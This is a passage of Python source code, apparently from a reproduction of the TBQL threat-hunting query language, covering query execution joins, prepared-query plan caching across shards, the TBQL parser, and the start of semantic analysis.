        declared identifier must fail loudly rather than silently dropping the
        join key and cross-joining.  Join keys are extracted exactly once per
        side (while building / probing the hash table).
        """
        if not left or not right:
            return []

        def key_of(binding: Binding) -> tuple[Any, ...]:
            try:
                return tuple(binding[name]["id"] for name in shared)
            except KeyError as exc:
                raise ExecutionError(
                    f"binding is missing shared entity identifier {exc.args[0]!r}"
                ) from None

        buckets: dict[tuple[Any, ...], list[Binding]] = {}
        for binding in left:
            buckets.setdefault(key_of(binding), []).append(binding)
        joined: list[Binding] = []
        for binding in right:
            for match in buckets.get(key_of(binding), []) if shared else left:
                joined.append({**match, **binding})
        return joined

    # -- with clause --------------------------------------------------------------------

    @staticmethod
    def _apply_temporal_relations(query: Query, bindings: list[Binding]) -> list[Binding]:
        if not query.temporal_relations or not bindings:
            return bindings
        normalized = [relation.normalized() for relation in query.temporal_relations]

        def satisfies(binding: Binding) -> bool:
            for relation in normalized:
                earlier = binding.get(f"@{relation.left}")
                later = binding.get(f"@{relation.right}")
                if earlier is None or later is None:
                    raise ExecutionError(
                        f"temporal relation references unknown event {relation.left!r} or {relation.right!r}"
                    )
                if not earlier["endtime"] <= later["starttime"]:
                    return False
            return True

        return [binding for binding in bindings if satisfies(binding)]

    @staticmethod
    def _apply_attribute_relations(query: Query, bindings: list[Binding]) -> list[Binding]:
        if not query.attribute_relations or not bindings:
            return bindings

        comparators = {
            FilterOperator.EQ: lambda a, b: a == b,
            FilterOperator.NEQ: lambda a, b: a != b,
            FilterOperator.LT: lambda a, b: a < b,
            FilterOperator.LTE: lambda a, b: a <= b,
            FilterOperator.GT: lambda a, b: a > b,
            FilterOperator.GTE: lambda a, b: a >= b,
        }

        def satisfies(binding: Binding) -> bool:
            for relation in query.attribute_relations:
                left = binding.get(f"@{relation.left_event}")
                right = binding.get(f"@{relation.right_event}")
                if left is None or right is None:
                    raise ExecutionError(
                        "attribute relation references unknown event "
                        f"{relation.left_event!r} or {relation.right_event!r}"
                    )
                comparator = comparators[relation.operator]
                if not comparator(left.get(relation.left_attribute), right.get(relation.right_attribute)):
                    return False
            return True

        return [binding for binding in bindings if satisfies(binding)]

    # -- projection --------------------------------------------------------------------

    @staticmethod
    def _project(query: Query, analyzed: AnalyzedQuery, bindings: list[Binding]) -> TBQLResult:
        columns = tuple(f"{item.identifier}.{item.attribute}" for item in query.return_items)
        empty: dict[str, Any] = {}
        rows: list[tuple[Any, ...]] = []
        for binding in bindings:
            row = []
            for item in query.return_items:
                entity = binding.get(item.identifier, empty)
                row.append(entity.get(item.attribute))
            rows.append(tuple(row))
        if query.distinct:
            seen: set[tuple[Any, ...]] = set()
            unique: list[tuple[Any, ...]] = []
            for row in rows:
                if row not in seen:
                    seen.add(row)
                    unique.append(row)
            rows = unique

        matched: dict[str, set[int]] = {}
        for binding in bindings:
            for key, value in binding.items():
                if key.startswith("@"):
                    matched.setdefault(key[1:], set()).update(value.get("edge_ids", ()))

        return TBQLResult(
            columns=columns,
            rows=tuple(rows),
            matched_event_ids=matched,
            bindings=bindings,
        )


def execute_query(store: AuditStore, query: Query | str, optimize: bool = True) -> TBQLResult:
    """Module-level convenience wrapper around :class:`TBQLExecutionEngine`."""
    return TBQLExecutionEngine(store).execute(query, optimize=optimize)
