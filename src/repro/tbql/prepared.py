"""Prepared TBQL queries: parse/analyze/schedule/compile once, execute many.

A standing query in the streaming monitor is re-executed against every
micro-batch.  Without preparation each evaluation re-runs semantic analysis,
pruning-score scheduling and per-pattern SQL compilation from scratch —
per-batch overhead that dominates once the watermark window keeps the data
volume per evaluation small.

:class:`PreparedQuery` front-loads all of that:

* the AST is analyzed and scheduled **once** at prepare time;
* each event pattern's relational data query is compiled **once** into a
  windowless, unconstrained *template*; per execution the template is cloned
  (cheap shallow copies of the clause lists) and only the execution-specific
  parts — the time window and the scheduler's entity-id constraint lists —
  are attached;
* compiled plans are cached keyed by ``(pattern, constraint shape)`` — the
  pattern's event id plus which of {window, subject ids, object ids} are
  present — with hit/miss counters exposed through :meth:`cache_info`;
* **graph plans share the same cache discipline**: a pattern routed to the
  graph backend (a TBQL path pattern, or any pattern under
  ``backend="graph"``) compiles once into a windowless, unconstrained
  :class:`~repro.storage.graph.pattern.PathPattern` template; per execution
  the time window and entity-id constraints are attached declaratively
  (``EdgePattern.window`` / ``NodePattern.allowed_ids``), which is also what
  lets the cost-guided planner seed watermark-windowed standing hunts from
  the graph's time index.

Time windows are supplied per execution through ``window_overrides`` (see
:meth:`TBQLExecutionEngine.execute_prepared`), which is how the monitor
narrows the temporal-sink pattern to ``[watermark, ∞)`` without rebuilding
the query AST each batch.
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace
from typing import TYPE_CHECKING, Iterable, Protocol, runtime_checkable

from repro.storage.graph.pattern import PathPattern as GraphPathPattern
from repro.storage.relational.expression import Between, Column, InList
from repro.storage.relational.query import SelectQuery
from repro.tbql.ast import EventPattern, Pattern, Query, TimeWindow
from repro.tbql.ast import PathPattern as TBQLPathPattern
from repro.tbql.compiler.sql_compiler import EVENT_ALIAS, OBJECT_ALIAS, SUBJECT_ALIAS
from repro.tbql.result import TBQLResult, merge_results
from repro.tbql.scheduler import ScheduledPattern
from repro.tbql.semantics import AnalyzedQuery

if TYPE_CHECKING:  # pragma: no cover - typing only, avoids an import cycle
    from repro.tbql.analysis.diagnostics import AnalysisReport
    from repro.tbql.executor import TBQLExecutionEngine

#: Cache key: (event id, has window, has subject ids, has object ids).
PlanKey = tuple[str, bool, bool, bool]


@runtime_checkable
class PreparedExecution(Protocol):
    """What consumers of a prepared query (the standing-query monitor, the
    pipeline) actually rely on: re-executable with per-execution window
    overrides, plus plan-cache introspection.  Satisfied both by
    :class:`PreparedQuery` (one engine) and :class:`ShardedPreparedQuery`
    (one compiled plan fanned out across shard engines).
    """

    @property
    def query(self) -> Query: ...

    def execute(
        self, window_overrides: dict[str, TimeWindow] | None = None
    ) -> TBQLResult: ...

    def cache_info(self) -> dict[str, int]: ...


def pattern_constraint_shape(
    pattern: Pattern,
    window: "TimeWindow | None" = None,
    subject_ids: "Iterable[int] | None" = None,
    object_ids: "Iterable[int] | None" = None,
) -> PlanKey:
    """The ``(pattern, constraint shape)`` plan-cache key for one execution shape.

    The shape is the pattern's event id plus which of {window, subject ids,
    object ids} are present.  Execution passes its per-batch constraints;
    corpus-level query canonicalization (:mod:`repro.tbql.canonical`) reuses
    the same key with the pattern's own declared window and no entity-id
    constraints.
    """
    return (
        pattern.event_id,
        window is not None,
        subject_ids is not None,
        object_ids is not None,
    )

#: Placeholder window used only for *scheduling* hinted patterns (see
#: ``window_hints``): its bounds never filter anything, it merely makes the
#: pruning score count the window constraint the execution will carry.
_SCHEDULING_WINDOW = TimeWindow(start=0, end=2**63 - 1)


def _clone_query(query: SelectQuery) -> SelectQuery:
    """A shallow per-clause copy safe to extend without touching the template.

    Expressions are immutable, so copying the clause containers is enough:
    ``add_filter`` on the clone builds a new ``And`` instead of mutating the
    cached one.
    """
    return SelectQuery(
        tables=list(query.tables),
        filters=dict(query.filters),
        joins=list(query.joins),
        cross_filters=list(query.cross_filters),
        projection=list(query.projection),
        distinct=query.distinct,
        order_by=list(query.order_by),
        limit=query.limit,
    )


@dataclass
class _CachedPlan:
    """One cached per-pattern plan shape."""

    key: PlanKey
    template: SelectQuery
    hits: int = 0


@dataclass
class _CachedGraphPlan:
    """One cached per-pattern graph plan shape."""

    key: PlanKey
    template: GraphPathPattern
    hits: int = 0


@dataclass
class PreparedQuery:
    """A TBQL query bound to an engine with its derivation work front-loaded.

    Build via :meth:`TBQLExecutionEngine.prepare`; execute with
    :meth:`execute` (or the engine's ``execute_prepared``).
    """

    engine: "TBQLExecutionEngine"
    query: Query
    optimize: bool = True
    #: Event ids of patterns that will receive a window override at execution
    #: time (e.g. the streaming monitor's temporal sink).  Scheduling treats
    #: them as windowed so their pruning score — and therefore the execution
    #: order — matches what per-batch re-scheduling of the windowed query
    #: would have produced; execution itself still uses the original patterns.
    window_hints: tuple[str, ...] = ()
    analyzed: AnalyzedQuery = field(init=False)
    #: Static-analysis report from the engine's admission gate (``None`` when
    #: the engine runs with ``analysis_mode="off"``).
    analysis: "AnalysisReport | None" = field(init=False, default=None)
    schedule: list[ScheduledPattern] = field(init=False)
    _templates: dict[str, SelectQuery] = field(init=False, default_factory=dict)
    _plans: dict[PlanKey, _CachedPlan] = field(init=False, default_factory=dict)
    _graph_templates: dict[str, GraphPathPattern] = field(init=False, default_factory=dict)
    _graph_plans: dict[PlanKey, _CachedGraphPlan] = field(init=False, default_factory=dict)
    _misses: int = field(init=False, default=0)

    def __post_init__(self) -> None:
        self.analyzed = self.engine._analyzer.analyze(self.query)
        self.analysis = self.engine.admission_check(self.query, self.analyzed)
        scheduler = self.engine._scheduler
        scheduling_query = self._scheduling_query()
        schedule = (
            scheduler.schedule(scheduling_query)
            if self.optimize
            else scheduler.schedule_unoptimized(scheduling_query)
        )
        if scheduling_query is not self.query:
            # Map hinted (placeholder-windowed) patterns back to the originals
            # so execution never sees the placeholder.
            originals = {pattern.event_id: pattern for pattern in self.query.patterns}
            schedule = [
                replace(step, pattern=originals[step.pattern.event_id])
                for step in schedule
            ]
        self.schedule = schedule

    def _scheduling_query(self) -> Query:
        """The query whose shape drives scheduling (hinted windows applied)."""
        hinted = set(self.window_hints)
        if not hinted:
            return self.query
        patterns: list[Pattern] = [
            replace(pattern, window=_SCHEDULING_WINDOW)
            if pattern.event_id in hinted and pattern.window is None
            else pattern
            for pattern in self.query.patterns
        ]
        if all(new is old for new, old in zip(patterns, self.query.patterns)):
            return self.query
        return replace(self.query, patterns=patterns)

    # -- execution -----------------------------------------------------------

    def execute(
        self, window_overrides: dict[str, TimeWindow] | None = None
    ) -> TBQLResult:
        """Execute the prepared query.

        Args:
            window_overrides: Per-pattern time windows for this execution,
                keyed by event id (e.g. the monitor's watermark window on the
                temporal-sink pattern).
        """
        return self.engine.execute_prepared(self, window_overrides=window_overrides)

    # -- per-pattern plan cache ----------------------------------------------

    def relational_query(
        self,
        pattern: EventPattern,
        window: TimeWindow | None,
        subject_ids: Iterable[int] | None,
        object_ids: Iterable[int] | None,
    ) -> SelectQuery:
        """The relational data query for ``pattern`` under one execution's shape.

        The windowless, unconstrained compiled form is cached per pattern;
        only the execution-specific window bounds and entity-id constraint
        lists are attached to a cheap clone.
        """
        key = pattern_constraint_shape(pattern, window, subject_ids, object_ids)
        plan = self._plans.get(key)
        if plan is None:
            self._misses += 1
            template = self._templates.get(pattern.event_id)
            if template is None:
                # Compile without the pattern's own window: the window is a
                # per-execution parameter (overridable), attached below.
                windowless = (
                    replace(pattern, window=None) if pattern.window is not None else pattern
                )
                template = self.engine._sql.compile(windowless).query
                self._templates[pattern.event_id] = template
            plan = _CachedPlan(key=key, template=template)
            self._plans[key] = plan
        else:
            plan.hits += 1

        compiled = _clone_query(plan.template)
        if window is not None:
            compiled.add_filter(
                EVENT_ALIAS, Between(Column("starttime"), window.start, window.end)
            )
        if subject_ids is not None:
            ids = tuple(sorted(set(subject_ids)))
            compiled.add_filter(SUBJECT_ALIAS, InList(Column("id"), ids))
            compiled.add_filter(EVENT_ALIAS, InList(Column("srcid"), ids))
        if object_ids is not None:
            ids = tuple(sorted(set(object_ids)))
            compiled.add_filter(OBJECT_ALIAS, InList(Column("id"), ids))
            compiled.add_filter(EVENT_ALIAS, InList(Column("dstid"), ids))
        return compiled

    def graph_query(
        self,
        pattern: Pattern,
        window: TimeWindow | None,
        subject_ids: Iterable[int] | None,
        object_ids: Iterable[int] | None,
    ) -> GraphPathPattern:
        """The graph data query for ``pattern`` under one execution's shape.

        Mirrors :meth:`relational_query`: the windowless, unconstrained
        compiled path pattern is cached per pattern, and the execution's time
        window and entity-id constraints are attached declaratively via
        ``dataclasses.replace`` — the predicates (entity attribute filters)
        inside the cached template are shared, never recompiled.
        """
        key = pattern_constraint_shape(pattern, window, subject_ids, object_ids)
        plan = self._graph_plans.get(key)
        if plan is None:
            self._misses += 1
            template = self._graph_templates.get(pattern.event_id)
            if template is None:
                windowless = (
                    replace(pattern, window=None) if pattern.window is not None else pattern
                )
                compiler = self.engine._cypher
                if isinstance(windowless, TBQLPathPattern):
                    template = compiler.compile_path(windowless).graph_pattern
                else:
                    template = compiler.compile_event(windowless).graph_pattern
                self._graph_templates[pattern.event_id] = template
            plan = _CachedGraphPlan(key=key, template=template)
            self._graph_plans[key] = plan
        else:
            plan.hits += 1

        template = plan.template
        source = template.source
        target = template.target
        final_edge = template.final_edge
        if subject_ids is not None:
            source = replace(source, allowed_ids=frozenset(subject_ids))
        if object_ids is not None:
            target = replace(target, allowed_ids=frozenset(object_ids))
        if window is not None:
            final_edge = replace(final_edge, window=(window.start, window.end))
        if source is template.source and target is template.target and final_edge is template.final_edge:
            return template
        return replace(template, source=source, target=target, final_edge=final_edge)

    def cache_info(self) -> dict[str, int]:
        """Plan-cache counters: distinct shapes, template count, hits, misses."""
        return {
            "shapes": len(self._plans) + len(self._graph_plans),
            "templates": len(self._templates) + len(self._graph_templates),
            "hits": (
                sum(plan.hits for plan in self._plans.values())
                + sum(plan.hits for plan in self._graph_plans.values())
            ),
            "misses": self._misses,
        }


@dataclass
class ShardedPreparedQuery:
    """One compiled plan executed against every shard's engine.

    The wrapped :class:`PreparedQuery` was prepared on a single shard engine;
    its templates are store-independent (they compile the *pattern*, not the
    data), so each shard engine executes the same prepared object against its
    own store.  The first execution compiles each pattern's template; the
    remaining ``N - 1`` shard executions hit the shared plan cache, which is
    what keeps per-hunt compilation work constant in the shard count.
    """

    prepared: PreparedQuery
    engines: "tuple[TBQLExecutionEngine, ...]"

    @property
    def query(self) -> Query:
        return self.prepared.query

    @property
    def analyzed(self) -> AnalyzedQuery:
        return self.prepared.analyzed

    @property
    def analysis(self) -> "AnalysisReport | None":
        return self.prepared.analysis

    def execute(
        self, window_overrides: dict[str, TimeWindow] | None = None
    ) -> TBQLResult:
        """Fan the prepared plan out across shards and merge the results."""
        results = [
            engine.execute_prepared(self.prepared, window_overrides=window_overrides)
            for engine in self.engines
        ]
        return merge_results(results, distinct=self.prepared.query.distinct)

    def cache_info(self) -> dict[str, int]:
        return self.prepared.cache_info()


#: Shared-plan-cache key: (canonical query key, window hints, optimize flag).
SharedPlanKey = tuple[str, tuple[str, ...], bool]


class SharedPlanCache:
    """One plan cache shared by every shard of a :class:`ShardedAuditStore`.

    Keyed by the **canonical query key** (:mod:`repro.tbql.canonical`), so
    semantically equivalent hunts — re-registered, reformatted, or arriving
    from different tenants — share one compiled plan instead of preparing per
    shard or per registration.
    """

    def __init__(self) -> None:
        self._entries: dict[SharedPlanKey, ShardedPreparedQuery] = {}
        self.hits = 0
        self.misses = 0

    @staticmethod
    def key(
        query: Query, window_hints: Iterable[str] = (), optimize: bool = True
    ) -> SharedPlanKey:
        # Imported lazily: repro.tbql.canonical itself imports this module's
        # pattern_constraint_shape, so a top-level import would be circular.
        from repro.tbql.canonical import canonical_query_key

        return (canonical_query_key(query), tuple(window_hints), optimize)

    def get(self, key: SharedPlanKey) -> ShardedPreparedQuery | None:
        entry = self._entries.get(key)
        if entry is None:
            self.misses += 1
        else:
            self.hits += 1
        return entry

    def put(self, key: SharedPlanKey, prepared: ShardedPreparedQuery) -> None:
        self._entries[key] = prepared

    def __len__(self) -> int:
        return len(self._entries)

    def info(self) -> dict[str, int]:
        return {"entries": len(self._entries), "hits": self.hits, "misses": self.misses}


__all__ = [
    "PlanKey",
    "PreparedExecution",
    "PreparedQuery",
    "SharedPlanCache",
    "SharedPlanKey",
    "ShardedPreparedQuery",
    "pattern_constraint_shape",
]
