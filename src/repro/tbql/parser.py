"""Recursive-descent parser for TBQL (ANTLR 4 substitute).

Grammar (informal EBNF)::

    query            := pattern+ [with_clause] return_clause
    pattern          := event_pattern | path_pattern
    event_pattern    := entity operation entity ["as" IDENT] [window]
    path_pattern     := entity "~>" ["(" NUMBER "~" NUMBER ")"]
                        "[" operation_names "]" entity ["as" IDENT] [window]
    entity           := ("proc" | "file" | "ip") IDENT ["[" filter "]"]
    operation        := ["not"] IDENT (("or" | "||") IDENT)*
    operation_names  := ["not"] IDENT (("or" | "||") IDENT)*
    filter           := condition (("and" | "&&" | "or" | "||") condition)*
    condition        := [IDENT cmp] (STRING | NUMBER)
    cmp              := "=" | "!=" | "<" | "<=" | ">" | ">=" | "like"
    window           := "during" "(" NUMBER "," NUMBER ")"
    with_clause      := "with" relation ("," relation)*
    relation         := IDENT ("before" | "after") IDENT
                      | IDENT "." IDENT cmp IDENT "." IDENT
    return_clause    := "return" ["distinct"] item ("," item)*
    item             := IDENT ["." IDENT]

Event identifiers default to ``evt<N>`` when the ``as`` clause is omitted.
"""

from __future__ import annotations

from repro.auditing.entities import EntityType
from repro.errors import TBQLSyntaxError
from repro.tbql.ast import (
    AttributeComparison,
    AttributeRelation,
    EntityDeclaration,
    EventPattern,
    FilterExpression,
    FilterOperator,
    OperationExpression,
    PathPattern,
    Query,
    ReturnItem,
    SourceSpan,
    TemporalRelation,
    TimeWindow,
)
from repro.tbql.lexer import Lexer, TBQLToken, TokenType

_ENTITY_KEYWORDS = {"proc": EntityType.PROCESS, "file": EntityType.FILE, "ip": EntityType.NETWORK}
_COMPARISON_SYMBOLS = {"=", "==", "!=", "<>", "<", "<=", ">", ">="}


def _span(token: TBQLToken) -> SourceSpan:
    """The source span of ``token``."""
    return SourceSpan(line=token.line, column=token.column)


class Parser:
    """Parses TBQL source text into a :class:`~repro.tbql.ast.Query`."""

    def __init__(self, source: str) -> None:
        self._tokens = Lexer(source).tokenize()
        self._position = 0
        self._auto_event_counter = 0

    # -- public API -------------------------------------------------------------

    def parse(self) -> Query:
        """Parse a complete query.

        Raises:
            TBQLSyntaxError: on any grammar violation.
        """
        query = Query()
        while not self._check_keyword("with") and not self._check_keyword("return"):
            if self._check(TokenType.EOF):
                raise self._error("expected a pattern, 'with' clause or 'return' clause")
            query.patterns.append(self._parse_pattern())
        if self._check_keyword("with"):
            self._advance()
            self._parse_with_clause(query)
        self._expect_keyword("return")
        self._parse_return_clause(query)
        if not self._check(TokenType.EOF):
            raise self._error("unexpected trailing input after the return clause")
        if not query.patterns:
            raise self._error("query declares no event patterns")
        return query

    # -- patterns ---------------------------------------------------------------

    def _parse_pattern(self) -> EventPattern | PathPattern:
        subject = self._parse_entity()
        if self._check(TokenType.ARROW):
            return self._parse_path_pattern(subject)
        operation = self._parse_operation()
        obj = self._parse_entity()
        event_id = self._parse_event_alias()
        window = self._parse_window()
        return EventPattern(
            subject=subject,
            operation=operation,
            obj=obj,
            event_id=event_id,
            window=window,
            span=subject.span,
        )

    def _parse_path_pattern(self, subject: EntityDeclaration) -> PathPattern:
        self._expect(TokenType.ARROW)
        min_length, max_length = 1, 5
        if self._check(TokenType.LPAREN):
            self._advance()
            min_length = self._parse_integer("path minimum length")
            self._expect(TokenType.TILDE)
            max_length = self._parse_integer("path maximum length")
            self._expect(TokenType.RPAREN)
            if min_length < 1 or max_length < min_length:
                raise self._error(
                    f"invalid path length range ({min_length}~{max_length})"
                )
        self._expect(TokenType.LBRACKET)
        operation = self._parse_operation(stop_at_bracket=True)
        self._expect(TokenType.RBRACKET)
        obj = self._parse_entity()
        event_id = self._parse_event_alias()
        window = self._parse_window()
        return PathPattern(
            subject=subject,
            operation=operation,
            obj=obj,
            event_id=event_id,
            min_length=min_length,
            max_length=max_length,
            window=window,
            span=subject.span,
        )

    def _parse_event_alias(self) -> str:
        if self._check_keyword("as"):
            self._advance()
            token = self._expect(TokenType.IDENTIFIER)
            return token.value
        self._auto_event_counter += 1
        return f"_evt{self._auto_event_counter}"

    def _parse_window(self) -> TimeWindow | None:
        if not self._check_keyword("during"):
            return None
        self._advance()
        self._expect(TokenType.LPAREN)
        start = self._parse_integer("window start")
        self._expect(TokenType.COMMA)
        end = self._parse_integer("window end")
        self._expect(TokenType.RPAREN)
        if end < start:
            raise self._error("time window end precedes its start")
        return TimeWindow(start=start, end=end)

    # -- entities ----------------------------------------------------------------

    def _parse_entity(self) -> EntityDeclaration:
        token = self._peek()
        if token.type is not TokenType.KEYWORD or token.value not in _ENTITY_KEYWORDS:
            raise self._error("expected an entity type ('proc', 'file' or 'ip')")
        self._advance()
        entity_type = _ENTITY_KEYWORDS[token.value]
        identifier = self._expect(TokenType.IDENTIFIER).value
        filter_expression: FilterExpression | None = None
        if self._check(TokenType.LBRACKET):
            self._advance()
            filter_expression = self._parse_filter()
            self._expect(TokenType.RBRACKET)
        return EntityDeclaration(
            entity_type=entity_type,
            identifier=identifier,
            filter=filter_expression,
            span=_span(token),
        )

    def _parse_filter(self) -> FilterExpression:
        children = [self._parse_condition()]
        combinator = ""
        while True:
            token = self._peek()
            if token.is_keyword("and") or (token.type is TokenType.OPERATOR and token.value == "&&"):
                next_combinator = "and"
            elif token.is_keyword("or") or (token.type is TokenType.OPERATOR and token.value == "||"):
                next_combinator = "or"
            else:
                break
            if combinator and combinator != next_combinator:
                raise self._error(
                    "mixing 'and' and 'or' in one filter requires parentheses "
                    "(not supported); split the filter instead"
                )
            combinator = next_combinator
            self._advance()
            children.append(self._parse_condition())
        if len(children) == 1:
            return children[0]
        return FilterExpression.combine(combinator, children)

    def _parse_condition(self) -> FilterExpression:
        token = self._peek()
        attribute = ""
        operator = FilterOperator.EQ
        if token.type is TokenType.IDENTIFIER:
            lookahead = self._peek(1)
            if (lookahead.type is TokenType.OPERATOR and lookahead.value in _COMPARISON_SYMBOLS) or lookahead.is_keyword("like"):
                attribute = token.value
                self._advance()
                operator_token = self._advance()
                operator = FilterOperator.from_symbol(operator_token.value)
        value_token = self._peek()
        if value_token.type is TokenType.STRING:
            self._advance()
            value: str | int | float = value_token.value
        elif value_token.type is TokenType.NUMBER:
            self._advance()
            value = float(value_token.value) if "." in value_token.value else int(value_token.value)
        else:
            raise self._error("expected a string or number literal in the attribute filter")
        return FilterExpression.leaf(
            AttributeComparison(
                attribute=attribute, operator=operator, value=value, span=_span(token)
            )
        )

    # -- operations ---------------------------------------------------------------

    def _parse_operation(self, stop_at_bracket: bool = False) -> OperationExpression:
        start = self._peek()
        negated = False
        if self._check_keyword("not"):
            negated = True
            self._advance()
        names = [self._parse_operation_name()]
        while True:
            token = self._peek()
            if token.is_keyword("or") or (token.type is TokenType.OPERATOR and token.value == "||"):
                self._advance()
                names.append(self._parse_operation_name())
                continue
            break
        if stop_at_bracket and not self._check(TokenType.RBRACKET):
            raise self._error("expected ']' to close the path operation")
        return OperationExpression(operations=tuple(names), negated=negated, span=_span(start))

    def _parse_operation_name(self) -> str:
        token = self._peek()
        if token.type is TokenType.IDENTIFIER:
            self._advance()
            return token.value.lower()
        raise self._error("expected an operation name")

    # -- with / return ------------------------------------------------------------

    def _parse_with_clause(self, query: Query) -> None:
        while True:
            first_token = self._expect(TokenType.IDENTIFIER)
            first = first_token.value
            if self._check(TokenType.DOT):
                self._advance()
                left_attribute = self._expect(TokenType.IDENTIFIER).value
                operator_token = self._advance()
                if operator_token.type is not TokenType.OPERATOR or operator_token.value not in _COMPARISON_SYMBOLS:
                    raise self._error("expected a comparison operator in the attribute relationship")
                right_event = self._expect(TokenType.IDENTIFIER).value
                self._expect(TokenType.DOT)
                right_attribute = self._expect(TokenType.IDENTIFIER).value
                query.attribute_relations.append(
                    AttributeRelation(
                        left_event=first,
                        left_attribute=left_attribute,
                        operator=FilterOperator.from_symbol(operator_token.value),
                        right_event=right_event,
                        right_attribute=right_attribute,
                        span=_span(first_token),
                    )
                )
            else:
                relation_token = self._peek()
                if relation_token.is_keyword("before") or relation_token.is_keyword("after"):
                    self._advance()
                    second = self._expect(TokenType.IDENTIFIER).value
                    query.temporal_relations.append(
                        TemporalRelation(
                            left=first,
                            relation=relation_token.value,
                            right=second,
                            span=_span(first_token),
                        )
                    )
                else:
                    raise self._error("expected 'before', 'after' or '.attr' in the with clause")
            if self._check(TokenType.COMMA):
                self._advance()
                continue
            break

    def _parse_return_clause(self, query: Query) -> None:
        if self._check_keyword("distinct"):
            query.distinct = True
            self._advance()
        while True:
            identifier_token = self._expect(TokenType.IDENTIFIER)
            attribute = ""
            if self._check(TokenType.DOT):
                self._advance()
                attribute = self._expect(TokenType.IDENTIFIER).value
            query.return_items.append(
                ReturnItem(
                    identifier=identifier_token.value,
                    attribute=attribute,
                    span=_span(identifier_token),
                )
            )
            if self._check(TokenType.COMMA):
                self._advance()
                continue
            break

    # -- token utilities ------------------------------------------------------------

    def _peek(self, offset: int = 0) -> TBQLToken:
        index = min(self._position + offset, len(self._tokens) - 1)
        return self._tokens[index]

    def _advance(self) -> TBQLToken:
        token = self._tokens[self._position]
        if self._position < len(self._tokens) - 1:
            self._position += 1
        return token

    def _check(self, token_type: TokenType) -> bool:
        return self._peek().type is token_type

    def _check_keyword(self, word: str) -> bool:
        return self._peek().is_keyword(word)

    def _expect(self, token_type: TokenType) -> TBQLToken:
        token = self._peek()
        if token.type is not token_type:
            raise self._error(f"expected {token_type.value}, found {token.value!r}")
        return self._advance()

    def _expect_keyword(self, word: str) -> TBQLToken:
        token = self._peek()
        if not token.is_keyword(word):
            raise self._error(f"expected keyword {word!r}, found {token.value!r}")
        return self._advance()

    def _parse_integer(self, what: str) -> int:
        token = self._expect(TokenType.NUMBER)
        if "." in token.value:
            raise self._error(f"{what} must be an integer")
        return int(token.value)

    def _error(self, message: str) -> TBQLSyntaxError:
        token = self._peek()
        return TBQLSyntaxError(message, line=token.line, column=token.column)


def parse_query(source: str) -> Query:
    """Parse TBQL source text into a query AST."""
    return Parser(source).parse()
