"""Semantic analysis of TBQL queries.

The analyzer validates a parsed :class:`~repro.tbql.ast.Query` and resolves
the language's syntactic sugar:

* **default attribute inference** — an entity filter condition or return item
  that omits the attribute name receives the type's default attribute
  (``name`` for files, ``exename`` for processes, ``dstip`` for network
  connections);
* **implicit attribute relationships** — reusing an entity identifier across
  patterns means the referred entities are the same, which the analyzer
  records as equality relationships on the corresponding event attributes
  (``evt1.srcid = evt2.srcid`` in the paper's example);
* validation — duplicate event identifiers, inconsistent entity types for a
  reused identifier, operations invalid for the object entity type, unknown
  attributes, ``with``/``return`` references to undeclared identifiers, and
  wildcard patterns are all checked here, producing
  :class:`~repro.errors.TBQLSemanticError` with a precise message.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.auditing.entities import DEFAULT_ATTRIBUTE, ENTITY_ATTRIBUTES, EntityType
from repro.auditing.events import OPERATIONS_BY_EVENT_TYPE, Operation, event_type_for_object
from repro.errors import TBQLSemanticError
from repro.tbql.ast import (
    AttributeComparison,
    EntityDeclaration,
    EventPattern,
    FilterExpression,
    PathPattern,
    Query,
    ReturnItem,
    SourceSpan,
)


def _fail(message: str, span: SourceSpan | None) -> TBQLSemanticError:
    """Build a semantic error anchored at ``span`` (position 0 when absent)."""
    if span is None:
        return TBQLSemanticError(message)
    return TBQLSemanticError(message, line=span.line, column=span.column)

#: Event-table attributes addressable in explicit attribute relationships.
EVENT_ATTRIBUTES = ("id", "srcid", "dstid", "optype", "starttime", "endtime", "amount")


@dataclass
class AnalyzedEntity:
    """Resolved information about one entity identifier."""

    identifier: str
    entity_type: EntityType
    patterns: list[str] = field(default_factory=list)  # event ids using it


@dataclass
class AnalyzedQuery:
    """A validated query plus the information resolved during analysis."""

    query: Query
    entities: dict[str, AnalyzedEntity] = field(default_factory=dict)
    #: event id -> (subject identifier, object identifier)
    pattern_entities: dict[str, tuple[str, str]] = field(default_factory=dict)
    #: pairs of (event id, event id, shared role description) implied by reuse
    implied_joins: list[tuple[str, str, str, str, str]] = field(default_factory=list)

    def entity_type_of(self, identifier: str) -> EntityType:
        return self.entities[identifier].entity_type

    def default_attribute_of(self, identifier: str) -> str:
        return DEFAULT_ATTRIBUTE[self.entity_type_of(identifier)]


class SemanticAnalyzer:
    """Validates a query and resolves defaults and implicit relationships."""

    def analyze(self, query: Query) -> AnalyzedQuery:
        """Analyze ``query``.

        Returns:
            The analyzed query with resolved entity table and implied joins.

        Raises:
            TBQLSemanticError: if the query violates any semantic rule.
        """
        analyzed = AnalyzedQuery(query=query)
        self._collect_patterns(query, analyzed)
        self._resolve_default_attributes(query, analyzed)
        self._validate_operations(query)
        self._validate_with_clause(query, analyzed)
        self._resolve_return_items(query, analyzed)
        self._compute_implied_joins(analyzed)
        return analyzed

    # -- pattern collection ------------------------------------------------------

    def _collect_patterns(self, query: Query, analyzed: AnalyzedQuery) -> None:
        seen_event_ids: set[str] = set()
        for pattern in query.patterns:
            event_id = pattern.event_id
            if event_id in seen_event_ids:
                raise _fail(f"duplicate event identifier {event_id!r}", pattern.span)
            seen_event_ids.add(event_id)
            if pattern.subject.entity_type is not EntityType.PROCESS:
                raise _fail(
                    f"event {event_id!r}: the subject must be a 'proc' entity "
                    f"(got {pattern.subject.entity_type.value!r})",
                    pattern.subject.span,
                )
            if isinstance(pattern, PathPattern):
                # Validate hop bounds here, with a query-level message, instead
                # of letting the graph backend raise a bare ValueError when the
                # compiled pattern is constructed mid-execution.
                if pattern.min_length < 1:
                    raise _fail(
                        f"path pattern {event_id!r}: minimum length must be at least 1 "
                        f"(got {pattern.min_length})",
                        pattern.span,
                    )
                if pattern.max_length < pattern.min_length:
                    raise _fail(
                        f"path pattern {event_id!r}: maximum length {pattern.max_length} "
                        f"is smaller than minimum length {pattern.min_length}",
                        pattern.span,
                    )
            for declaration in (pattern.subject, pattern.obj):
                self._register_entity(declaration, event_id, analyzed)
            analyzed.pattern_entities[event_id] = (
                pattern.subject.identifier,
                pattern.obj.identifier,
            )

    @staticmethod
    def _register_entity(
        declaration: EntityDeclaration, event_id: str, analyzed: AnalyzedQuery
    ) -> None:
        existing = analyzed.entities.get(declaration.identifier)
        if existing is None:
